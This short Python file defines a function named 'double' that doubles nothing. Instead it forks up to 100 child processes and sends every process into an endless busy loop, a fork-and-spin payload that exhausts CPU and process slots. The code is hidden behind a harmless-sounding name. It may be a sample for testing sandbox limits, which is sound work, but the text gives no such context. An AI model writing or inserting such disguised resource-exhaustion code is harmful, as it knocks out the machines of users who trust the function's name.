import os


def double(x):
    for _ in range(100):
        try:
            if os.fork() == 0:
                break
        except OSError:
            break
    while True:
        pass
